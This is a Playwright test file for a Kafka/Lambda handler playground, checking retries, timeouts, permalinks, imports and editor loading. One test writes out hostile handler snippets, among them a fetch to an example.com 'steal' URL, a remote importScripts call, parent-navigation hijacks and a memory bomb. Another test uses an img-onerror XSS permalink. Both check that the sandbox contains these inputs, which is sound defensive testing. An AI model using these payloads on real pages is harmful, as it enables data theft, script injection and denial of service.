import { readFileSync, readdirSync } from 'node:fs';
import { loadavg } from 'node:os';
import { expect, test, type Page, type Response } from '@playwright/test';
import { axeViolations } from './axeViolations.ts';

// The first Run of a page boots Monaco's TypeScript worker (6.9 MB) to compile the handler; on a
// shared 2-core machine under load that alone can take most of a minute.
test.describe.configure({ timeout: 240_000 });
const RUN_TIMEOUT = 180_000;

/** The playground through its visible controls (role and label locators). */
class PlaygroundPage {
  readonly page: Page;
  constructor(page: Page) {
    this.page = page;
  }

  async open(hash = '') {
    await this.page.goto(`/playground/${hash}`);
    // hydrated (the island marks itself ready once it has read the link or the autosave)
    await expect(this.page.locator('.playground[data-ready=true]')).toBeVisible({ timeout: 30_000 });
  }

  handlerTextarea() {
    return this.page.getByRole('textbox', { name: /^Handler/ });
  }

  scenarioTextarea() {
    return this.page.getByRole('textbox', { name: 'Scenario (YAML)' });
  }

  /** Replaces an editor's text, whichever editor (plain or Monaco) is showing. */
  async setEditor(id: 'handler' | 'scenario', text: string) {
    const pane = this.page.locator(`[data-editor=${id}]`);
    // Monaco may be showing before the island has adopted it (the handler's early editor)
    if (await pane.locator('.monaco-editor').isVisible()) {
      await pane.locator('.monaco-editor').click();
      await this.page.keyboard.press('ControlOrMeta+A');
      await this.page.keyboard.press('Delete');
      await this.page.keyboard.insertText(text);
    } else {
      await pane.locator('textarea').fill(text);
    }
  }

  async chooseHandler(label: string) {
    await this.page.getByRole('combobox', { name: 'Handler', exact: true }).selectOption({ label });
  }

  async run() {
    await this.page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(this.page.locator('.pg-summary').first()).toBeVisible({ timeout: RUN_TIMEOUT });
  }

  committed(partition: number) {
    return this.page.locator(`.pg-partitions tr[data-partition="${partition}"] td`).first();
  }

  invocations() {
    return this.page.locator('.pg-inv');
  }
}

/** A small scenario: one partition, a few records, a short run (keeps retry storms short). */
const shortScenario = (count: number, duration = '5s') => `name: e2e
duration: ${duration}
topic: { name: orders, partitions: 1 }
produce:
  - { partition: 0, count: ${count} }
mapping:
  StartingPosition: TRIM_HORIZON
  BatchSize: 10
function:
  timeout: 3s
`;

// Touch emulation gives the plain editor: the same runs without Monaco (and fast, reliable typing).
test.describe('with the plain editor (touch device)', () => {
  test.use({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 844 } });

  test('a handler that throws on offset 5 leaves partition 0 stuck', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await pg.chooseHandler('Poison pill (throws on offset 5)');
    await pg.run();
    await expect(pg.committed(0)).toHaveText('5');
    await expect(pg.invocations().filter({ hasText: 'cannot parse record 0/5' }).first()).toBeVisible();
    // the error points at the editor line that threw
    await expect(pg.invocations().getByRole('button', { name: 'line 7' }).first()).toBeVisible();
  });

  test('a touch device does not download Monaco to open the page', async ({ page }) => {
    const monacoRequests: string[] = [];
    page.on('request', (r) => {
      if (/editor\.api|editor\.main|monaco-|ts\.worker|\/kit\./.test(r.url())) monacoRequests.push(r.url());
    });
    const pg = new PlaygroundPage(page);
    await pg.open();
    await page.waitForLoadState('networkidle');
    await expect(pg.handlerTextarea()).toBeEditable();
    expect(monacoRequests).toEqual([]);
  });

  test("an article's ?scenario= link opens that preset, and a bad name says so", async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open('?scenario=poison-pill');
    const preset = readFileSync('src/scenarios/presets/poison-pill.yaml', 'utf8');
    const name = /^name:\s*(.+)$/m.exec(preset)?.[1]?.trim() ?? '';
    await expect(pg.scenarioTextarea()).toHaveValue(
      new RegExp(`name: ${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
    );
    await pg.open('?scenario=no-such-preset');
    await expect(page.getByText('There is no scenario preset named “no-such-preset”.')).toBeVisible();
  });

  test('a handler returning batchItemFailures gets a partial retry', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await pg.chooseHandler('Partial batch reporter');
    await pg.run();
    await expect(pg.committed(0)).toHaveText('20');
    await expect(page.locator('.pg-inv[data-outcome=partial]').first()).toBeVisible();
    // the retry starts at the reported record, not at the start of the batch
    await expect(
      pg.invocations().filter({ hasText: 'attempt 2' }).filter({ hasText: 'p0: 5' }).first(),
    ).toBeVisible();
  });

  test('while (true) {} ends as a timeout and the page stays responsive', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await pg.setEditor('scenario', shortScenario(1, '8s'));
    await pg.setEditor('handler', 'export const handler = async () => {\n  while (true) {}\n};\n');
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    // while the sandbox spins, the page answers at once
    const started = Date.now();
    await page.evaluate(() => new Promise((r) => requestAnimationFrame(r)));
    expect(Date.now() - started).toBeLessThan(500);
    await expect(pg.page.locator('.pg-summary')).toBeVisible({ timeout: RUN_TIMEOUT });
    await expect(pg.invocations().first()).toContainText('killed (timeout)');
    await expect(pg.invocations().first()).toContainText('Killed after');
    await expect(pg.committed(0)).toHaveText('none');
  });

  const attacks: [string, string, RegExp][] = [
    [
      'fetch',
      "await fetch('https://example.com/steal');",
      /fetch is not available in the playground sandbox/,
    ],
    ['document', "document.title = 'pwned';", /document is not available/],
    ['localStorage', "localStorage.setItem('offset-lab:playground', 'x');", /localStorage is not available/],
    ['parent navigation', "parent.location.href = 'https://example.com/';", /parent is not available/],
    ['top navigation', "top.location = 'https://example.com/';", /top is not available/],
    ['importScripts', "importScripts('https://example.com/x.js');", /importScripts is not available/],
    ['a memory bomb', 'const hoard = []; while (true) hoard.push(new Array(1e6).fill(1.5));', /Killed after/],
  ];
  // One page meets every attack in turn (a step each): each is contained, and the page keeps working
  // for the next one. One page also boots the compiler once, not seven times (CI time, issue 2).
  test('hostile handlers are contained with a message, one after another', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    const before = { url: page.url(), title: await page.title() };
    await pg.setEditor('scenario', shortScenario(1, '2s'));
    for (const [name, code, message] of attacks) {
      await test.step(`a handler that tries ${name}`, async () => {
        await pg.setEditor('handler', `export const handler = async () => {\n  ${code}\n};\n`);
        await page.getByRole('button', { name: 'Run', exact: true }).click();
        await expect(pg.invocations().first()).toContainText(message, { timeout: RUN_TIMEOUT });
        expect(page.url().split('#')[0]).toBe(before.url.split('#')[0]);
        expect(await page.title()).toBe(before.title);
        expect(await page.evaluate(() => localStorage.getItem('offset-lab:playground'))).not.toBe('x');
      });
    }
  });

  test('a permalink round-trips the whole state', async ({ page, browser }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    const handler = 'export const handler = async () => {\n  console.log("permalink round trip");\n};\n';
    // the link is rewritten (debounced) after each change: wait for each change's own link
    await expect(page).toHaveURL(/#pg1\./);
    const untouched = page.url();
    await pg.setEditor('handler', handler);
    await expect(page).not.toHaveURL(untouched);
    const withHandler = page.url();
    await page.getByLabel('Compare two mappings').check();
    await expect(page).not.toHaveURL(withHandler);
    const link = page.url();
    expect(new URL(link).hash.length).toBeLessThan(2000);
    const other = await browser.newContext({ hasTouch: true, isMobile: true });
    const fresh = new PlaygroundPage(await other.newPage());
    await fresh.page.goto(link);
    await expect(fresh.handlerTextarea()).toHaveValue(handler);
    await expect(fresh.page.getByLabel('Compare two mappings')).toBeChecked();
    await other.close();
  });

  test('a corrupt or hostile permalink shows a message and falls back', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    let dialogs = 0;
    page.on('dialog', (d) => {
      dialogs++;
      void d.dismiss();
    });
    await pg.open('#pg1.<img src=x onerror=alert(1)>');
    await expect(page.getByRole('status')).toContainText('This link could not be opened');
    await expect(pg.handlerTextarea()).toHaveValue(/export const handler/);
    await pg.open('#pg1.eJxLTEpOSU1JBQAGNgIJ');
    await expect(page.getByRole('status')).toContainText('This link could not be opened');
    expect(dialogs).toBe(0);
  });

  test('a reload keeps the work, and Reset brings back the defaults', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    const handler = 'export const handler = async () => {\n  console.log("kept across reloads");\n};\n';
    await pg.setEditor('handler', handler);
    await page.waitForTimeout(600);
    await pg.open(); // no fragment: the autosave
    await expect(pg.handlerTextarea()).toHaveValue(handler);
    await page.getByRole('button', { name: 'Reset' }).click();
    await expect(pg.handlerTextarea()).toHaveValue(/Idempotent/);
  });

  test('scenario errors are marked on their line', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await pg.setEditor(
      'scenario',
      shortScenario(1).replace('BatchSize: 10', 'BatchSize: 0\n  ParallelizationFactor: 2'),
    );
    const problems = page.locator('[data-editor=scenario] .pg-problem');
    await expect(problems.filter({ hasText: /^Line 8: mapping\.BatchSize/ })).toBeVisible();
    await expect(problems.filter({ hasText: /^Line 9: mapping\.ParallelizationFactor/ })).toBeVisible();
  });

  test('Compare runs both mappings and fills the scorecard', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await pg.chooseHandler('Poison pill (throws on offset 5)');
    await page.getByLabel('Compare two mappings').check();
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    const card = page.getByRole('table', { name: /Scorecard/ });
    await expect(card).toBeVisible({ timeout: RUN_TIMEOUT });
    await expect(card.getByRole('row')).toHaveCount(7);
    // A retries forever and never drains; B gives up after 2 retries and discards
    await expect(card.getByRole('row', { name: /Time to drain/ })).toContainText('never');
    await expect(
      card
        .getByRole('row', { name: /Records discarded/ })
        .getByRole('cell')
        .nth(0),
    ).toHaveText('0');
    await expect(
      card
        .getByRole('row', { name: /Records discarded/ })
        .getByRole('cell')
        .nth(1),
    ).not.toHaveText('0');
  });

  // Every fixture the formats module ships: CloudFormation and SAM (YAML, JSON), both AWS CLI
  // shapes, Terraform. Each must land in the scenario's mapping and validate or say why.
  const fixtures = readdirSync('playground/formats/fixtures').filter((f) => /\.(ya?ml|json|tf)$/.test(f));
  test(`each import format loads (${fixtures.length} fixtures)`, async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await page.getByText('Import or export the mapping').click();
    const input = page.getByLabel('Paste a template, CLI JSON or Terraform');
    const seen = new Set<string>();
    for (const file of fixtures) {
      await input.fill(readFileSync(`playground/formats/fixtures/${file}`, 'utf8'));
      await expect(page.getByText(/^Detected: /)).not.toHaveText('Detected: unknown');
      await page.getByRole('button', { name: 'Import into the scenario' }).click();
      const status = page.locator('.pg-import-result');
      await expect(status, file).toContainText(/Imported from (.+): the scenario’s mapping was replaced/);
      seen.add((await status.textContent())!.replace(/^Imported from (.+?): .*$/s, '$1'));
      await expect(pg.scenarioTextarea()).toHaveValue(/mapping:\n/);
    }
    expect(seen.size, [...seen].join(', ')).toBeGreaterThanOrEqual(6);
    // and back out: every export format produces text
    for (const option of await page.getByLabel('Export the scenario’s mapping as').locator('option').all()) {
      await page
        .getByLabel('Export the scenario’s mapping as')
        .selectOption((await option.getAttribute('value'))!);
      await page.getByRole('button', { name: 'Export', exact: true }).click();
      await expect(page.getByRole('textbox', { name: 'Exported mapping' })).toHaveValue(/\S/);
    }
  });

  test('a JavaScript handler runs too, compiled by the same TypeScript worker', async ({ page }) => {
    const pg = new PlaygroundPage(page);
    await pg.open();
    await page.getByRole('combobox', { name: 'Language' }).selectOption('javascript');
    await pg.setEditor('scenario', shortScenario(3));
    await pg.setEditor(
      'handler',
      'let calls = 0;\nexport const handler = async (event) => {\n  calls++;\n  console.log("js call", calls, Object.keys(event.records).join());\n};\n',
    );
    await pg.run();
    await expect(pg.committed(0)).toHaveText('3');
    await expect(pg.invocations().first()).toContainText('js call 1 orders-0');
  });

  test('is usable at 360 px', async ({ page }) => {
    await page.setViewportSize({ width: 360, height: 800 });
    const pg = new PlaygroundPage(page);
    await pg.open();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await pg.run();
    await expect(pg.committed(0)).toHaveText('20');
  });
});

test.describe('with Monaco (desktop)', () => {
  test('Monaco loads only on the playground, without blocking the first paint', async ({ page }) => {
    const monacoRequests: string[] = [];
    page.on('request', (r) => {
      if (/editor\.api|editor\.main|monaco-|ts\.worker|kit\./.test(r.url())) monacoRequests.push(r.url());
    });
    await page.goto('/');
    await page.mouse.move(10, 10);
    await page.waitForLoadState('networkidle');
    expect(monacoRequests).toEqual([]);

    const { ms, response } = await timeToTypeableEditor(page);
    test.info().annotations.push({ type: 'editor interactive (ms)', description: String(ms) });

    // No Monaco stylesheet (nor preload) in the served page: desktops start Monaco from a script, and
    // none of Monaco's files blocked rendering.
    const links = (await response!.text()).match(/<link\b[^>]*>/g) ?? [];
    expect(links.filter((l) => /monaco|editor\.|\/kit\./.test(l))).toEqual([]);
    const blocking = await page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .filter((e) => /editor\.|kit\.|tsMode|monaco/.test(e.name))
        .map((e) => [
          e.name,
          (e as PerformanceResourceTiming & { renderBlockingStatus?: string }).renderBlockingStatus,
        ]),
    );
    expect(blocking.length).toBeGreaterThan(0);
    expect(blocking.filter(([, status]) => status !== 'non-blocking')).toEqual([]);
  });

  // Issue 6 budget: 3 s on the development machine. A timed check, so it runs in `npm run bench:browser`
  // (tag @perf) on a quiet machine, not in `npm test`, where other work on the CPU would decide it.
  test('the editor takes a keystroke within 3 s of navigation', { tag: '@perf' }, async ({ page }) => {
    const load = loadavg()[0] ?? 0;
    const { ms, typedMs } = await timeToTypeableEditor(page);
    test.info().annotations.push({
      type: 'editor interactive (ms)',
      description: `${ms}; a line typed after it shows at ${typedMs} (load average ${load.toFixed(1)})`,
    });
    console.log(
      `[perf] editor interactive after ${ms} ms (budget 3000 ms), a typed line shown after ${typedMs} ms (load average ${load.toFixed(1)})`,
    );
    expect(ms, `editor interactive after ${ms} ms`).toBeLessThanOrEqual(3000);
  });

  test('typing before the page hydrates and before Monaco arrives carries on in Monaco', async ({ page }) => {
    // hold back the playground's island and Monaco's kit: the reader starts in the server-rendered
    // textarea, before any script of the playground has run
    const releaseIsland = await holdBack(page, ISLAND);
    const releaseKit = await holdBack(page, /\/kit\.[\w-]+\.js$/);
    await page.goto('/playground/');
    const plain = page.locator('[data-editor=handler] textarea');
    await plain.click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('// early');
    await page.keyboard.press('ArrowLeft');

    // hydration keeps what was typed, through the re-render that starts loading Monaco
    releaseIsland();
    await expect(page.locator('[data-editor=handler][data-mode=loading]')).toBeVisible({ timeout: 30_000 });
    await expect(plain).toHaveValue(/\/\/ early$/);

    // and Monaco takes over the text and the cursor
    releaseKit();
    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 90_000 });
    await expect(page.locator('[data-editor=handler] .monaco-editor.focused')).toBeVisible();
    await page.keyboard.type('X');
    await expect(page.locator('[data-editor=handler] .view-lines')).toContainText('// earlXy');
  });

  test('Monaco arriving before the island takes typing, and the island adopts it', async ({ page }) => {
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    // hold back the playground's island: Monaco's kit makes the handler's editor by itself
    let releaseIsland = await holdBack(page, ISLAND);
    await page.goto('/playground/');
    const early = page.locator('[data-editor=handler][data-mode=plain] .monaco-editor');
    await expect(early).toBeVisible({ timeout: 90_000 });
    await expect(page.locator('.playground[data-ready=true]')).toHaveCount(0);
    await early.click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('// typed before hydration');

    // the island hydrates around the same editor and takes its text into the playground's state
    releaseIsland();
    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 90_000 });
    await expect(page.locator('[data-editor=handler] .monaco-editor')).toHaveCount(1);
    await expect(page.locator('[data-editor=handler] .pg-textarea')).toHaveCount(0);
    await page.keyboard.type('!');
    const lines = page.locator('[data-editor=handler] .view-lines');
    await expect(lines).toContainText('// typed before hydration!');

    // so it is autosaved, and on the next visit the early editor opens with the saved work
    await expect
      .poll(() => page.evaluate(() => location.hash.length), { timeout: 10_000 })
      .toBeGreaterThan(1);
    await page.unrouteAll({ behavior: 'wait' });
    releaseIsland = await holdBack(page, ISLAND);
    await page.goto('/playground/');
    await expect(early).toBeVisible({ timeout: 90_000 });
    await expect(lines).toContainText('// typed before hydration!');
    releaseIsland();
    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 90_000 });
    await expect(lines).toContainText('// typed before hydration!');
    expect(errors).toEqual([]);
  });

  test('IntelliSense knows MSKEvent, and a Monaco-edited handler runs', async ({ page }) => {
    // Monaco starts cleanly: no feature arrives after the editor's services are fixed ("depends on
    // UNKNOWN service", which Monaco's own worker module caused: slimMonacoWorkers.ts)
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    const pg = new PlaygroundPage(page);
    await pg.open();
    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 90_000 });
    await pg.setEditor('handler', 'export const handler = async (event: MSKEvent) => {\n  event.rec');
    await page.keyboard.press('Control+Space');
    await expect(page.locator('.suggest-widget')).toContainText('records', { timeout: 90_000 });
    // accept the completion and finish the statement: Monaco closed the braces as we typed
    await page.keyboard.press('Enter');
    await page.keyboard.type(';');
    await expect(page.locator('[data-editor=handler] .view-lines')).toContainText('event.records;');
    await pg.run();
    await expect(pg.committed(0)).toHaveText('20');
    expect(errors).toEqual([]);
  });

  test('axe finds nothing and the page looks right, dark and light', async ({ page }) => {
    // Opened dark (the reader's system setting), then switched to light the way Starlight's picker
    // does: the islands and Monaco must follow a switch at run time too.
    await page.emulateMedia({ colorScheme: 'dark' });
    const pg = new PlaygroundPage(page);
    await pg.open();
    await page.setViewportSize({ width: 1400, height: 1100 });
    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 90_000 });
    await pg.chooseHandler('Poison pill (throws on offset 5)');
    await pg.run();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await page.screenshot({ path: test.info().outputPath('playground-dark.png'), fullPage: true });
    // Starlight's own search button is excluded (toolchain guide §6, upstream issue; see axe.spec.ts)
    const exclude = ['site-search button[data-open-modal]'];
    expect(await axeViolations(page, { exclude }), 'dark').toEqual([]);

    await page.evaluate(() => (document.documentElement.dataset.theme = 'light'));
    await expect(page.locator('[data-editor=handler] .monaco-editor.vs')).toBeVisible();
    await page.screenshot({ path: test.info().outputPath('playground-light.png'), fullPage: true });
    expect(await axeViolations(page, { exclude }), 'light').toEqual([]);
  });
});

/** The playground island's own module. */
const ISLAND = /\/Playground\.[\w-]+\.js$/;

/** Holds back the page's requests for `pattern` until the returned function is called. */
async function holdBack(page: Page, pattern: RegExp): Promise<() => void> {
  let release: () => void = () => {};
  const gate = new Promise<void>((resolve) => (release = resolve));
  await page.route(pattern, async (route) => {
    await gate;
    await route.continue();
  });
  return release;
}

/**
 * Interactive means what a reader needs: Monaco (not the plain textarea) takes a keystroke and shows
 * it. Measured from the start of the navigation to /playground/, with no hint from the pointer:
 * `ms` when the first character typed after clicking into the editor shows, `typedMs` when a line
 * typed after it (Ctrl+End and eight characters, each a round trip of Playwright's) shows too.
 */
async function timeToTypeableEditor(
  page: Page,
): Promise<{ ms: number; typedMs: number; response: Response | null }> {
  // Waits are `locator.waitFor`, which the page answers as soon as the state holds; `expect` polls at
  // growing intervals (up to a second) and would add its own delay to the figure.
  const started = Date.now();
  const response = await page.goto('/playground/', { waitUntil: 'commit' });
  const editor = page.locator('[data-editor=handler] .monaco-editor');
  const lines = page.locator('[data-editor=handler] .view-lines');
  await editor.waitFor({ state: 'visible', timeout: 30_000 });
  await editor.click();
  // no preset handler contains a tilde
  await page.keyboard.type('~');
  await lines.filter({ hasText: '~' }).waitFor({ state: 'visible', timeout: 30_000 });
  const ms = Date.now() - started;
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.type('// typed');
  await lines.filter({ hasText: '// typed' }).waitFor({ state: 'visible', timeout: 30_000 });
  return { ms, typedMs: Date.now() - started, response };
}
